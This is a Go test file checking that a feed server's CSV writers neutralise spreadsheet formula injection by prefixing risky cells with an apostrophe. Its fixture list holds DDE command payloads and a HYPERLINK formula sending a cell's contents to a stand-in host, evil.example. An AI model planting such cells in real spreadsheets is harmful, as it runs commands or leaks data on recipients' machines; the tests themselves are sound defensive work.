package feed_test

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"github.com/fieldsync/fieldsync/server/feed"
	"github.com/fieldsync/fieldsync/server/servertest"
	"github.com/fieldsync/fieldsync/syncproto"
)

// Cells a hostile or careless feed may carry, each of which a spreadsheet
// would run as a formula.
var formulaCells = []string{
	`=cmd|' /C calc'!A0`,
	`=HYPERLINK("http://evil.example/?"&A1,"点此查看")`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
}

func TestSafeCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"张三", "张三"},
		{"13800001234", "13800001234"},
		{"=1+1", "'=1+1"},
		{"+8613800001234", "'+8613800001234"},
		{"-", "'-"},
		{"@x", "'@x"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"a=1", "a=1"},
		{" =1", " =1"},
		// An apostrophe that SafeCell could have put there gets another,
		// so that ParseCSV, taking one off, gives the value back.
		{"'=1", "''=1"},
		{"''", "'''"},
		{"'abc", "'abc"},
		{"'", "'"},
	} {
		if got := feed.SafeCell(tc.in); got != tc.want {
			t.Errorf("SafeCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// A feed file written by WriteCSV runs nothing in a spreadsheet, and
// ParseCSV reads the values back as they were.
func TestWriteCSV_FormulaCells(t *testing.T) {
	var rows []syncproto.FeedWarning
	for i, cell := range append(formulaCells, "'=already guarded") {
		rows = append(rows, syncproto.FeedWarning{
			ExternalID: strings.TrimSpace(cell) + "#" + string(rune('a'+i)), Name: strings.TrimSpace(cell), Phone: "13800000001",
			Address: strings.TrimSpace(cell), Unit: "4110", FraudType: strings.TrimSpace(cell), Risk: syncproto.RiskHigh,
			WarnedAt: time.Date(2026, 11, 27, 1, 0, 0, 0, time.UTC),
		})
	}
	var buf bytes.Buffer
	if err := feed.WriteCSV(&buf, rows); err != nil {
		t.Fatal(err)
	}
	servertest.GuardedCSV(t, buf.String())
	for i, row := range MustParse(t, buf.String()) {
		if d := SameWarning(MustValid(t, row), rows[i]); d != "" {
			t.Errorf("row %d: %s", i+1, d)
		}
	}
}

// The feedback file for the national platform carries the feed's
// external ids, which may be anything.
func TestWriteFeedbackCSV_FormulaCells(t *testing.T) {
	var items []syncproto.FeedbackItem
	for _, cell := range formulaCells {
		items = append(items, syncproto.FeedbackItem{ExternalID: cell, Status: syncproto.WarningNew, Unit: "4110", CadreName: cell,
			WarnedAt: time.Date(2026, 11, 27, 1, 0, 0, 0, time.UTC)})
	}
	var buf bytes.Buffer
	if err := feed.WriteFeedbackCSV(&buf, items); err != nil {
		t.Fatal(err)
	}
	recs := servertest.GuardedCSV(t, buf.String())
	for i, cell := range formulaCells {
		if got := recs[i+1][0]; got != "'"+cell {
			t.Errorf("external_id %q written as %q", cell, got)
		}
	}
}
